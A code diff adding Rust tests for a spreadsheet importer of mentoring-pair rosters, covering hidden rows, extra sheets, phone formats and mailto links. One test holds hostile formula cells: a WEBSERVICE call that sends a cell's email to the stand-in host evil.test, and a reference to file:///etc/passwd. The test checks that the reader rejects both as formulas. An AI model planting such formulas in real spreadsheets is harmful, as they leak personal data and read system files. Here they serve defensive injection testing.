@@ -250,3 +250,190 @@ fn what_is_no_workbook_says_what_would_be_right() {
         assert!(wrong.contains(said), "{wrong}");
     }
 }
+
+/// A row of cells, a text each.
+fn put(sheet: &mut rust_xlsxwriter::Worksheet, row: u32, cells: &[&str]) {
+    for (column, cell) in (0..).zip(cells) {
+        sheet.write(row, column, *cell).unwrap();
+    }
+}
+
+const PAIRS: [[&str; 6]; 4] = [
+    ["Mentor", "Mentor email", "Mentee", "Mentee email", "Weekly", "Notes"],
+    ["Ada Lovelace", "ada@people.test", "Sam Jones", "sam@people.test", "Tue 18:00", "tea"],
+    ["Old Hand", "old@people.test", "Gone Away", "gone@people.test", "Tue 18:00", ""],
+    ["Bo Ek", "bo@people.test", "Lee Ng", "lee@people.test", "Wed 10:00", ""],
+];
+
+fn pairs(sheet: &mut rust_xlsxwriter::Worksheet) {
+    for (row, cells) in (0..).zip(PAIRS) {
+        put(sheet, row, &cells);
+    }
+}
+
+#[test]
+fn what_does_not_show_is_left_out_and_counted() {
+    let bytes = made(|workbook| {
+        let sheet = workbook.add_worksheet();
+        pairs(sheet);
+        put(sheet, 4, &["", "", "", "", "Fri 9:00"]);
+        sheet.set_row_hidden(2).unwrap().set_row_hidden(4).unwrap();
+        sheet.set_column_hidden(5).unwrap();
+        sheet.autofilter(0, 0, 4, 5).unwrap();
+    });
+    let sheet = sheet::read(&bytes).unwrap();
+    assert_eq!(sheet.rows.iter().map(|row| row.line).collect::<Vec<_>>(), [2, 4]);
+    assert_eq!(sheet.hidden, (1, vec!["Notes".to_owned()]));
+    let said = sheet.rows[0].said.clone().unwrap();
+    assert_eq!(said.background, crate::planning::roster::sheet::Cell::Silent);
+    // What nobody can be paired without is asked for.
+    let bytes = made(|workbook| {
+        let sheet = workbook.add_worksheet();
+        pairs(sheet);
+        sheet.set_column_hidden(3).unwrap();
+        sheet.set_column_hidden(2).unwrap();
+    });
+    let wrong = Catalogue::english().say(&sheet::read(&bytes).unwrap_err());
+    assert!(wrong.starts_with("The columns \"Mentee\", \"Mentee email\" are hidden"), "{wrong}");
+}
+
+#[test]
+fn other_sheets_that_hold_pairings_are_named() {
+    let bytes = made(|workbook| {
+        workbook.add_worksheet().set_name("Read me").unwrap().write(0, 0, "How we pair people").unwrap();
+        put(workbook.add_worksheet().set_name("Empty").unwrap(), 0, &PAIRS[0]);
+        for name in ["Spring", "Autumn", "Old"] {
+            let sheet = workbook.add_worksheet();
+            sheet.set_name(name).unwrap().set_hidden(name == "Old");
+            pairs(sheet);
+        }
+        put(workbook.add_worksheet().set_name("Template").unwrap(), 0, &PAIRS[0]);
+        put(workbook.add_worksheet().set_name("Hours").unwrap(), 0, &["Name", "Hours"]);
+    });
+    let sheet = sheet::read(&bytes).unwrap();
+    assert_eq!((sheet.name.as_deref(), sheet.rows.len()), (Some("Spring"), 3));
+    assert_eq!(sheet.others, ["Autumn"]);
+}
+
+#[test]
+fn numbers_keep_the_zeros_that_they_are_shown_with() {
+    let bytes = made(|workbook| {
+        let sheet = workbook.add_worksheet();
+        put(sheet, 0, &["Mentor", "Mentor email", "Mentor phone", "Mentee", "Mentee email", "Mentee phone"]);
+        for (row, format) in (1..).zip(["00000000000", "00000 000000", "General", "@"]) {
+            let (mentor, mentee) = (format!("m{row}@people.test"), format!("s{row}@people.test"));
+            put(sheet, row, &["Ada Lovelace", &mentor, "", "Sam Jones", &mentee]);
+            let format = Format::new().set_num_format(format);
+            sheet.write_with_format(row, 2, 7_911_123_456_u64, &format).unwrap();
+            sheet.write(row, 5, "07911 123456").unwrap();
+        }
+    });
+    let sheet = sheet::read(&bytes).unwrap();
+    let phone = |row: usize| {
+        let said = sheet.rows[row].said.clone().unwrap();
+        (
+            said.mentors.says().unwrap()[0].phone.clone().unwrap(),
+            said.mentees.says().unwrap()[0].phone.clone().unwrap(),
+        )
+    };
+    let shown: Vec<String> = (0..4).map(|row| phone(row).0).collect();
+    assert_eq!(shown, ["07911123456", "07911 123456", "7911123456", "7911123456"]);
+    assert!((0..4).all(|row| phone(row).1 == "07911 123456"));
+}
+
+#[test]
+fn an_address_lies_in_a_link_and_a_place_behind_one() {
+    let bytes = made(|workbook| {
+        let sheet = workbook.add_worksheet();
+        put(sheet, 0, &["Mentor", "Mentor email", "Mentee", "Mentee email", "Place"]);
+        for (row, mentor, mentee) in [
+            (1, "mailto:ada%2Btest@people.test", "mailto:sam@people.test?subject=Hi"),
+            (2, "mailto:bo%40people.test", "mailto:lee@people.test"),
+        ] {
+            sheet.write(row, 0, "Ada Lovelace").unwrap();
+            sheet.write_url(row, 1, Url::new(mentor).set_text("write to them")).unwrap();
+            sheet.write(row, 2, "Sam Jones").unwrap();
+            sheet.write_url(row, 3, Url::new(mentee).set_text("mail")).unwrap();
+            sheet.write_url(row, 4, Url::new(format!("https://meet.test/{row}")).set_text("Join")).unwrap();
+        }
+        put(sheet, 3, &["Cy Ode"]);
+        sheet
+            .write_formula(
+                3,
+                1,
+                rust_xlsxwriter::Formula::new("HYPERLINK(\"mailto:cy@people.test\",\"Cy\")").set_result("Cy"),
+            )
+            .unwrap();
+        sheet.write(3, 2, "Mo Ito").unwrap();
+        sheet
+            .write_formula(
+                3,
+                3,
+                rust_xlsxwriter::Formula::new("HYPERLINK(\"mailto:mo@people.test\")").set_result(""),
+            )
+            .unwrap();
+        sheet
+            .write_formula(
+                3,
+                4,
+                rust_xlsxwriter::Formula::new("HYPERLINK(\"https://meet.test/3\",\"Join\")")
+                    .set_result("Join"),
+            )
+            .unwrap();
+    });
+    let shown = sheet::read(&bytes).unwrap().to_string();
+    let rows: Vec<&str> = shown.lines().filter(|line| line.starts_with("line")).collect();
+    assert_eq!(
+        rows,
+        [
+            "line 2: Ada Lovelace <ada+test@people.test> mentors Sam Jones <sam@people.test>, https://meet.test/1",
+            "line 3: Ada Lovelace <bo@people.test> mentors Sam Jones <lee@people.test>, https://meet.test/2",
+            "line 4: Cy Ode <cy@people.test> mentors Mo Ito <mo@people.test>, https://meet.test/3",
+        ],
+        "{shown}"
+    );
+}
+
+#[test]
+fn formulas_without_a_result_and_links_to_files_are_text_and_said() {
+    let sheet = cells(
+        r#"<row r="1"><c r="A1" t="inlineStr"><is><t>Mentor</t></is></c><c r="B1" t="inlineStr"><is><t>Mentor email</t></is></c><c r="C1" t="inlineStr"><is><t>Mentee</t></is></c><c r="D1" t="inlineStr"><is><t>Mentee email</t></is></c></row>
+        <row r="2"><c r="A2"><f>WEBSERVICE("http://evil.test/"&amp;B2)</f></c><c r="B2" t="inlineStr"><is><t>ada@people.test</t></is></c><c r="C2" t="inlineStr"><is><t>Sam</t></is></c><c r="D2" t="inlineStr"><is><t>sam@people.test</t></is></c></row>
+        <row r="3"><c r="A3" t="inlineStr"><is><t>Bo</t></is></c><c r="B3"><f>'[file:///etc/passwd]S'!A1</f></c><c r="C3" t="inlineStr"><is><t>Lee</t></is></c><c r="D3" t="inlineStr"><is><t>lee@people.test</t></is></c></row>
+        <row r="4"><c r="A4" t="inlineStr"><is><t>Bo</t></is></c><c r="B4"><f>HYPERLINK("file:///C:/bo@people.test","bo")</f></c><c r="C4" t="inlineStr"><is><t>Lee</t></is></c><c r="D4" t="inlineStr"><is><t>lee@people.test</t></is></c></row>"#,
+    );
+    let read = sheet::read(&forged(&sheet, None)).unwrap();
+    let said: Vec<String> =
+        read.rows.iter().map(|row| Catalogue::english().say(&row.said.clone().unwrap_err())).collect();
+    assert_eq!(said.len(), 3);
+    assert_eq!(said[0], "the mentor's name \"=WEBSERVICE(\"http://evil.test/\"&B2)\" is a formula");
+    assert!(said[1].contains("\"='[file:///etc/passwd]S'!A1\" is not a mail address"), "{}", said[1]);
+    assert!(said[2].contains("has no address") || said[2].contains("is not a mail address"), "{}", said[2]);
+}
+
+#[test]
+fn markings_that_lie_hide_nothing_and_break_nothing() {
+    let row = r#"<row r="1"><c r="A1"><v>1</v></c></row>"#;
+    for odd in [
+        r#"<cols><col min="1" max="4294967295" hidden="1"/></cols>"#,
+        r#"<cols><col min="99" max="3" hidden="1"/><col hidden="1"/><col min="x" max="y" hidden="true"/></cols>"#,
+        "<cols><col",
+        "<!-- <row r=\"1\" hidden=\"1\"/> -->",
+    ] {
+        let sheet = cells(row).replace("<sheetData>", &format!("{odd}<sheetData>"));
+        let _ = pages(&forged(&sheet, None));
+    }
+    for row in [
+        r#"<row r="0" hidden="1"><c r="A1"><v>1</v></c></row>"#,
+        r#"<row r="99999999999" hidden="1"><c r="A1" s="99999999999999999999"><f>A1</f></c></row>"#,
+        r#"<row hidden="maybe"><c r="ÄÖ1"><f>&unknown;</f><v>1</v></c></row>"#,
+    ] {
+        let _ = pages(&forged(&cells(row), None));
+    }
+    // Many formulas, each as long as may be.
+    let formula = "A".repeat(9_000);
+    let rows: String =
+        (1..=2_000).map(|n| format!(r#"<row r="{n}"><c r="A{n}"><f>{formula}</f></c></row>"#)).collect();
+    let page = pages(&forged(&cells(&rows), None)).unwrap().remove(0);
+    assert!(page.grid.lines.iter().all(|line| line.cells[0].len() <= 2_001));
+}
